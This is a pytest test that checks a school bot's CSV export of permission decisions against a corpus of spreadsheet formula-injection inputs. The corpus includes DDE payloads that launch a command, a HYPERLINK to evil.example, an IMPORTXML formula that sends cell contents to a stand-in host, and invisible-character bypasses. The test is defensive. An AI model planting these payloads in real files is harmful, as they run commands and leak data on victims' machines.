"""`python -m bot export-decisions` over a formula-injection corpus, read back with the csv module (issue 19,
item 6): every field quoted, nothing a spreadsheet would run as a formula (at the start of a cell or after a
separator), no control or invisible characters, the words kept."""

from __future__ import annotations

import csv
import os
import re
import subprocess
import sys
import unicodedata
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest

from bot.domain.people import Person
from bot.domain.permission_requests import AuditEntry, PermissionRequest, RequestState
from bot.storage.permission_requests import TablePermissionRequests
from bot.storage.tables import TableStore, service_client

REPO = Path(__file__).resolve().parents[2]
TENANT = "5c0f1e2a-7b3d-4e8f-9a1b-2c3d4e5f6a7b"
NOW = datetime(2026, 11, 24, 9, 0, tzinfo=UTC)
# What security guides (OWASP's CSV injection page among them) list, and the ways around a check of the first
# character only: a separator before the formula, whitespace, invisible characters or a control before it.
CORPUS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,2)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1",
    '=HYPERLINK("http://evil.example","Click")', "=cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")', "-2+3+cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("http://e.example/",A1))',
    "Notes; =cmd|' /C calc'!A0", "Class page,=1+1", "Year 9;+1", "Parents|-1", "Trip\t@SUM(1)", "a ;  =1",
    "line one\n=1+1", "line one\r\n-2", "line one\u2028=1", "end ,\n @x",
    "\u200b=1+1", "\u202e=1+1", "\ufeff@x", "\u2060+1", "\U000e0041=1", "\x00=1", "\x1b[31m=1", "\x07-1",
    "=", "+", "-", "@", "'=already quoted", '"=1+1"', "Siân's 'class' page, \"Year 9\"",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")
AFTER_SEPARATOR = re.compile(r"[,;|\t\n\r]\s*[=+\-@]")


def _visible(text: str) -> str:
    return "".join(ch for ch in text if ch.isalnum())


@pytest.fixture
async def decided(azurite: str, table_prefix: str) -> AsyncIterator[None]:
    """One decided request per corpus entry, the entry in every field a person typed or Teams named."""
    async with service_client(connection_string=azurite, endpoint="", credential=None, timeout=3) as service:
        tables = TableStore(service, prefix=table_prefix, timeout=3)
        await tables.ensure_tables(["permissions", "permissionindex"])
        store = TablePermissionRequests(tables)
        for n, payload in enumerate(CORPUS):
            request_id = f"P-{n:06d}"
            requester = Person(TENANT, f"a1000000-0000-4000-8000-{n:012d}", payload)
            request = PermissionRequest(
                request_id=request_id, requester=requester, school_id="high", platform="other",
                platform_other=payload, account_kind="existing", existing_account=payload, purpose=payload,
                audiences=("parents",), pupil_content=("none",), consent="", moderator=payload, moderation="daily",
                start=date(2026, 12, 1), end=None, submitted_at=NOW)
            await store.create(request, AuditEntry(request_id, "submitted", requester.aad_object_id, payload, NOW))
            stored = await store.get(request_id)
            decided_at = NOW + timedelta(minutes=n)
            await store.save(replace(stored, state=RequestState.DECLINED, decided_by=payload, decided_at=decided_at,
                                     reason=payload),
                             AuditEntry(request_id, "declined", "head", payload, decided_at))
        yield


def test_the_exported_file_is_safe_to_open_in_a_spreadsheet(decided: None, azurite: str, table_prefix: str,
                                                            tmp_path: Path) -> None:
    out = tmp_path / "decisions.csv"
    env = {**os.environ, "APP_ENV": "local", "AZURE_STORAGE_CONNECTION_STRING": azurite,
           "TABLE_PREFIX": table_prefix}

    result = subprocess.run([sys.executable, "-m", "bot", "export-decisions", "--from", "2026-11-01", "--to",
                             "2026-11-30", "--out", str(out)], cwd=REPO, env=env, capture_output=True, text=True,
                            timeout=120)

    assert result.returncode == 0, result.stderr
    raw = out.read_bytes().decode("utf-8-sig")
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:]
    assert len(body) == len(CORPUS)
    quoted = "".join(",".join('"' + cell.replace('"', '""') + '"' for cell in row) + "\r\n" for row in rows)
    assert raw == quoted, "every field is quoted"
    problems = []
    for row in body:
        for column, cell in zip(header, row, strict=True):
            if cell.startswith(FORMULA) or AFTER_SEPARATOR.search(cell):
                problems.append(f"{column}: formula {cell!r}")
            if any(unicodedata.category(ch) in ("Cc", "Cf", "Co", "Cs", "Zl", "Zp") for ch in cell):
                problems.append(f"{column}: control or invisible character in {cell!r}")
    assert problems == []
    typed = {row[0]: row for row in body}
    for n, payload in enumerate(CORPUS):  # the words survive, whatever was defused around them
        row = typed[f"P-{n:06d}"]
        assert {_visible(row[i]) for i in (2, 4, 5, 8, 10)} == {_visible(payload)}, payload
